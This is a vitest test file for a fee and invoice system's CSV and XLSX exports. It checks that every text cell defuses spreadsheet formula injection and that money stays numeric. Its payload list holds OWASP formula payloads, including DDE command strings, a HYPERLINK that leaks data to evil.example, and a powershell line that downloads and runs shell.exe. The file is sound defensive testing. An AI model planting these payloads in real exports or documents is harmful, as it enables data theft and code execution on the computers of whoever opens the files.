// CSV/XLSX formula injection (issue 14, item 4): OWASP's payloads in every text field a person controls that reaches
// an export, then every export (/exports/*.csv and *.xlsx) is parsed: no cell is a formula, no text cell starts with
// a formula sign or control character unless neutralised with a leading apostrophe, the payload survives whole after
// it, and money (a red-letter invoice's -300.00 included) stays a number.
//
// The text that reaches the exports: unit names (单位名称, typed at 新用户注册), invoice notes and correction reasons
// (备注; 作废/红字 reasons are stored there), domain names (缴费项目), and region and office names (seeded today, but
// written to every export). The rows are written straight to the database, so the exports are tested on what they
// would meet even if a form's validation changed.
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createTestApp, type TestApp } from '../testkit/app.ts'
import { parseCsvFields } from '../testkit/csv.ts'
import { createUnit } from '../testkit/fixtures.ts'
import { collectedItems, officeByRegion } from '../testkit/money.ts'
import {
  csvField,
  neutraliseFormula,
  restoreNeutralised,
  xlsxValue,
  yuanCell,
} from '../../server/src/lib/exports/cells.ts'

/** OWASP's CSV injection payloads, DDE forms, and the variants this project also neutralises (see lib/exports/cells.ts). */
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  "=cmd|' /C calc'!A0",
  "-1+cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "=cmd|'/C powershell IEX(wget evil.example/shell.exe)'!A0",
  '=1+1;=2+2',
  ' =1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '＝1+1',
  '－1+1',
  '＋1+1',
  '＠SUM(1,1)',
]

/** What a spreadsheet could run: the test's own statement of the rule, independent of the implementation. */
const DANGEROUS = /^(?:[\t\r\n\0]|[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠])/u

const RED_LETTER_FEN = -30000n

let t: TestApp
let conac = ''
/** The payloads given to 河南省's cities as names: the 区域统计 rows of 410000. */
let cityNames: string[] = []

beforeAll(async () => {
  t = await createTestApp()
  conac = await t.login('conac')
  const prisma = t.db.prisma
  const office = await officeByRegion(prisma, '410922')
  const staff = await prisma.user.findFirstOrThrow({ where: { role: { not: 'UNIT_USER' } } })
  for (const payload of PAYLOADS) {
    const unit = await createUnit(prisma, { regionCode: '410922', name: payload })
    // A domain name must be one DNS can hold (a database check), so only a leading "-" can reach the exports.
    const domainName = `-${PAYLOADS.indexOf(payload)}注入测试`
    const { collection } = await collectedItems(prisma, {
      officeId: office.id,
      unitId: unit.id,
      collectedById: staff.id,
      count: 1,
      feeFen: 30000n,
      domainNames: [domainName],
    })
    const base = { officeId: office.id, unitId: unit.id, feeCollectionId: collection.id, issuedById: staff.id }
    const normal = await prisma.invoice.create({
      data: { ...base, kind: 'NORMAL', count: 1, amountFen: 30000n, note: payload },
    })
    await prisma.invoice.create({
      data: { ...base, kind: 'RED_LETTER', count: 1, amountFen: RED_LETTER_FEN, parentId: normal.id, note: payload },
    })
  }
  // Region and office names reach every export (the unit's region, the collecting office, the 区域统计 rows and notes).
  const cities = await prisma.region.findMany({ where: { parentCode: '410000' }, orderBy: { code: 'asc' } })
  cityNames = cities.map((_, index) => PAYLOADS[index % PAYLOADS.length]!)
  for (const [index, city] of cities.entries())
    await prisma.region.update({ where: { code: city.code }, data: { name: cityNames[index] } })
  await prisma.region.update({
    where: { code: '410000' },
    data: { name: '=HYPERLINK("http://evil.example/","河南省")' },
  })
  await prisma.region.update({ where: { code: '410922' }, data: { name: "-1+cmd|' /C calc'!A0" } })
  await prisma.office.update({ where: { id: office.id }, data: { name: '@SUM(1,1) 清丰县编办' } })
})
afterAll(() => t?.close())

const EXPORTS = [
  { file: 'unit-payments', params: {} },
  { file: 'unit-invoices', params: {} },
  { file: 'region-statistics', params: { regionCode: '410000' } },
] as const

async function download(file: string, extension: 'csv' | 'xlsx', params: Record<string, string>) {
  const response = await t.app.fetch(`http://test.local/exports/${file}.${extension}?${new URLSearchParams(params)}`, {
    headers: { cookie: conac },
  })
  expect(response.status, `${file}.${extension}`).toBe(200)
  return response
}

/** The text cells that are neutralised payloads: each must be exactly an apostrophe and the whole payload. */
function expectPayloadsWhole(texts: string[], expected: readonly string[]) {
  const found = new Set(texts)
  for (const payload of expected)
    expect(found.has(`'${payload}`), `"${JSON.stringify(payload)}" as '${JSON.stringify(payload)}`).toBe(true)
}

describe('CSV exports', () => {
  for (const { file, params } of EXPORTS) {
    it(`${file}.csv: text is quoted and neutralised, numbers bare`, async () => {
      const text = (await (await download(file, 'csv', params)).text()).replace(/^\uFEFF/, '')
      const rows = parseCsvFields(text)
      expect(rows.length).toBeGreaterThan(1)
      for (const [rowIndex, row] of rows.entries()) {
        for (const field of row) {
          if (!field.quoted) {
            // A bare field is a number (or empty): a spreadsheet reads it as one.
            expect(field.text, `row ${rowIndex}`).toMatch(/^(?:-?\d+(?:\.\d+)?)?$/)
            continue
          }
          expect(DANGEROUS.test(field.text), `row ${rowIndex}: ${JSON.stringify(field.text)}`).toBe(false)
        }
      }
      const texts = rows.flat().map((field) => field.text)
      expectPayloadsWhole(texts, file === 'region-statistics' ? cityNames : PAYLOADS)
      // The header is left as it is.
      expect(DANGEROUS.test(rows[0]![0]!.text)).toBe(false)
      expect(rows[0]![0]!.text).not.toMatch(/^'/)
    })
  }

  it('unit-invoices.csv: a red-letter invoice’s amount is a bare negative number', async () => {
    const rows = parseCsvFields((await (await download('unit-invoices', 'csv', {})).text()).replace(/^\uFEFF/, ''))
    const amount = rows[0]!.findIndex((field) => field.text === '金额（元）')
    const kind = rows[0]!.findIndex((field) => field.text === '类型')
    const redLetters = rows.filter((row) => row[kind]!.text === '红字冲销')
    expect(redLetters.length).toBe(PAYLOADS.length)
    for (const row of redLetters) expect(row[amount]).toEqual({ text: '-300.00', quoted: false })
  })
})

describe('XLSX exports', () => {
  for (const { file, params } of EXPORTS) {
    it(`${file}.xlsx: no formula cell, text neutralised, money numeric`, async () => {
      const workbook = new ExcelJS.Workbook()
      await workbook.xlsx.load(await (await download(file, 'xlsx', params)).arrayBuffer())
      const texts: string[] = []
      let cells = 0
      for (const sheet of workbook.worksheets) {
        sheet.eachRow((row, rowNumber) => {
          row.eachCell((cell) => {
            cells++
            const where = `${sheet.name}!${cell.address} (row ${rowNumber})`
            expect(cell.type, where).not.toBe(ExcelJS.ValueType.Formula)
            expect(cell.formula, where).toBeFalsy()
            expect(['string', 'number'], where).toContain(typeof cell.value)
            if (typeof cell.value === 'string') {
              expect(DANGEROUS.test(cell.value), `${where}: ${JSON.stringify(cell.value)}`).toBe(false)
              texts.push(cell.value)
            }
          })
        })
      }
      expect(cells).toBeGreaterThan(10)
      // Excel keeps CR in shared strings as _x000D_; exceljs reads it back as CR, but normalise line ends to compare.
      const normalised = texts.map((text) => text.replace(/\r\n?/g, '\n'))
      const expected = (file === 'region-statistics' ? cityNames : PAYLOADS).map((payload) =>
        payload.replace(/\r\n?/g, '\n'),
      )
      expectPayloadsWhole(normalised, expected)
    })
  }

  it('unit-invoices.xlsx: a red-letter invoice’s amount is a negative number cell', async () => {
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(await (await download('unit-invoices', 'xlsx', {})).arrayBuffer())
    const sheet = workbook.worksheets[0]!
    const header = (sheet.getRow(1).values as unknown[]).slice(1)
    const amount = header.indexOf('金额（元）') + 1
    const kind = header.indexOf('类型') + 1
    const redLetters: ExcelJS.Cell[] = []
    sheet.eachRow((row, rowNumber) => {
      if (rowNumber > 1 && row.getCell(kind).value === '红字冲销') redLetters.push(row.getCell(amount))
    })
    expect(redLetters.length).toBe(PAYLOADS.length)
    for (const cell of redLetters) {
      expect(cell.type).toBe(ExcelJS.ValueType.Number)
      expect(cell.value).toBe(-300)
      expect(cell.numFmt).toBe('0.00')
    }
  })
})

describe('the cell writer (lib/exports/cells.ts)', () => {
  it('neutralises every payload, NUL first included, and nothing else', () => {
    for (const payload of [...PAYLOADS, '\0=1+1', '\0abc', '\u00a0@x', '\ufeff=1', '\u202e=1+1', "'=already"]) {
      expect(neutraliseFormula(payload), JSON.stringify(payload)).toBe(`'${payload}`)
      expect(xlsxValue(payload)).toBe(`'${payload}`)
      expect(csvField(payload)).toBe(`"'${payload.replace(/"/g, '""')}"`)
    }
    for (const plain of ['清丰县人民政府办公室', '', "'plain", '1+1', 'A-1', 'a=b', '2026-11-22 16:30:00', '410922']) {
      expect(neutraliseFormula(plain), JSON.stringify(plain)).toBe(plain)
    }
  })

  it('is undone exactly by restoreNeutralised (数据迁移 reads the files the exports write)', () => {
    for (const text of [...PAYLOADS, '@', "'=already", "''@x", "'plain", '清丰县', '', 'A-1', '-300.00'])
      expect(restoreNeutralised(neutraliseFormula(text)), JSON.stringify(text)).toBe(text)
  })

  it('writes amounts and counts as numbers; text that merely looks like a negative amount is still neutralised', () => {
    expect(csvField(yuanCell(RED_LETTER_FEN))).toBe('-300.00')
    expect(xlsxValue(yuanCell(RED_LETTER_FEN))).toBe(-300)
    expect(csvField(yuanCell(-150n))).toBe('-1.50')
    expect(xlsxValue(yuanCell(33333n))).toBe(333.33)
    expect(csvField(-3)).toBe('-3')
    expect(xlsxValue(7)).toBe(7)
    expect(csvField('-300.00')).toBe(`"'-300.00"`)
  })
})
